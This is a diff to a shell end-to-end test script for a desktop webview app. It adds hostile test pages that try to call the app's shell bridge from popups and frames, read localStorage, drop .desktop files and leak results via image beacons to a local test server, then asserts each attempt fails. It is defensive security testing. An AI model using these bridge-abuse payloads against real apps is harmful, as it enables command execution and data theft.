@@ -59,6 +59,40 @@ PAYLOAD
 echo "new Image().src = '$server/leak?what=script-ran';" >"$work/secret.js"
 printf '\x89PNG\r\n\x1a\n' >"$work/exists.png"
 
+# A local page the app shows in its own place: it opens a window, writes a
+# script into it and sends the app's page back, so that the window would
+# find the app's bridge through its opener, or its own.
+cat >"$work/local-popup.html" <<LOCAL
+<!DOCTYPE html><title>local</title><script>
+var popup = window.open("about:blank", "_blank");
+try {
+  popup.document.write("<script>" +
+    "var command = {command: \\"touch '$work/ran'\\"};" +
+    "var tries = 0; var timer = setInterval(function () {" +
+    "  try { opener.vtx.shell.command(command); } catch (e) {}" +
+    "  try { vtx.shell.command(command); } catch (e) {}" +
+    "  if (++tries === 20) { clearInterval(timer);" +
+    "    new Image().src = '$server/done?row=local-popup'; }" +
+    "}, 200);<\\/script>");
+  popup.document.close();
+} catch (e) {
+  // Its own origin keeps it out of the window too.
+  new Image().src = "$server/done?row=local-popup&popup=" + (popup ? "closed-to-it" : "none");
+}
+setTimeout(function () { history.back(); }, 500);
+</script>
+LOCAL
+# A local page the app frames: it may not read what the app stores, nor
+# reach the app's page.
+cat >"$work/local-frame.html" <<LOCAL
+<!DOCTYPE html><title>local</title><script>
+function report(what) { new Image().src = "$server/" + what + "&row=local-frame"; }
+try { if (localStorage.getItem("secret")) report("leak?what=local-storage"); } catch (e) {}
+try { parent.vtx.shell.command({command: "touch '$work/ran'"}); report("leak?what=parent-vtx"); } catch (e) {}
+setTimeout(function () { new Image().src = "$server/done?row=local-frame"; }, 500);
+</script>
+LOCAL
+
 cat >"$www/attack.html" <<'ATTACK'
 <!DOCTYPE html><title>foreign</title><body><script>
 var query = new URLSearchParams(location.search);
@@ -73,6 +107,41 @@ function load(tag, src) {
   document.body.appendChild(element);
 }
 (async function () {
+  if (row === "reply") {
+    // In the place of an app page whose command is still running: its answer
+    // must not arrive here.
+    window.chrome.webview.addEventListener("message", function (event) {
+      report("leak?what=reply-" + encodeURIComponent(JSON.stringify(event.data)).slice(0, 200));
+    });
+    await sleep(4000);
+    report("done");
+    return;
+  }
+  if (row === "history") {
+    // Brings the app's page back from history, where it would answer again.
+    await sleep(300);
+    history.back();
+    await sleep(2500);
+    report("done");
+    return;
+  }
+  if (row === "frame") {
+    // A frame may not open instances of the app, nor one of a page that
+    // sits beside the executable, nor get what the app's page would.
+    window.open("tessel-app://app/index.html");
+    window.open("tessel-app://app/invoice.html");
+    navigator.geolocation.getCurrentPosition(function () { report("leak?what=geolocation"); },
+        function (error) { report("geo?who=frame&code=" + error.code); }, {timeout: 2000});
+    var blob = document.createElement("a");
+    blob.download = "blob.desktop";
+    blob.href = URL.createObjectURL(new Blob(["[Desktop Entry]"]));
+    blob.click();
+    var named = document.createElement("a");
+    named.download = "invoice.pdf.desktop";
+    named.href = "data:application/x-desktop,[Desktop Entry]";
+    document.body.appendChild(named);
+    named.click();
+  }
   // 1. A page saved to disk without asking.
   var link = document.createElement("a");
   link.download = "payload-" + row + ".html";
@@ -138,24 +207,26 @@ run_row() {
   TESSEL_TRACE=1 "$app_dir/hostile-e2e" >"$log" 2>&1 &
   pid=$!
   E2E_CHILDREN=$pid
-  # The top-level page of another origin gets no save dialog. A frame inside
-  # the app's page may get one: WebKitGTK does not tell which frame started
-  # a download, so the user is asked, and here declines.
-  local dialog
-  if dialog=$(find_window 'Save File' 6); then
-    [[ $row == frame ]] || fail "$row: a save dialog opened"
-    xdotool windowactivate --sync "$dialog" key --clearmodifiers Escape 2>/dev/null
-  fi
-  if ! wait_for 30 eval 'served | grep -q "GET /done?row=$row "'; then
+  # Downloads the app did not start itself get no save dialog (a frame's,
+  # the foreign page's): checked once the page is done.
+  if ! wait_for 30 eval 'served | grep -q "GET /done?row=$row[ &]"'; then
     fail "$row: the foreign page did not finish: $(served | tail -3)"
   fi
   sleep 1
+  windows_named "Save File.*" >/dev/null && fail "$row: a save dialog opened: $(visible_titles)"
   win=$(app_window "$pid")
   caption=$(xdotool getwindowname "$win" 2>/dev/null)
   if [[ $row == frame ]]; then
     [[ $caption == "AFTER 2021.28" ]] || fail "$row: the app's page lost its bridge: title '$caption'"
+    served | grep -q "GET /step?n=read&row=$row " || fail "$row: the attack did not run"
+    served | grep -q "GET /geo?who=frame&code=1&" ||
+      fail "$row: the frame's location request was not refused: $(served | grep 'GET /geo')"
+    echo "note: the app's own location request: $(served | grep -o 'GET /geo?who=app[^ ]*')"
   fi
-  served | grep -q "GET /step?n=read&row=$row " || fail "$row: the attack did not run"
+  if [[ $row == reply ]] && ! grep -q "dropped: the document that asked is no longer shown" "$log"; then
+    fail "$row: the trace does not say the reply was dropped"
+  fi
+  [[ $row == top ]] && { served | grep -q "GET /step?n=read&row=$row " || fail "$row: the attack did not run"; }
   [[ -e $work/ran ]] && fail "$row: a command ran"
   served | grep -q 'GET /leak' && fail "$row: local content reached the server: $(served | grep 'GET /leak')"
   served | grep -q 'GET /payload' && fail "$row: the local page was loaded: $(served | grep 'GET /payload')"
@@ -178,8 +249,10 @@ wait_for() {
   return 1
 }
 
-run_row frame
-run_row top
+cp "$work/payload.html" "$app_dir/invoice.html"  # a download beside the app
+for row in frame top reply history popup local-popup local-frame; do
+  run_row "$row"
+done
 
 # The app's own page may download: only where the user chose in the save
 # dialog.
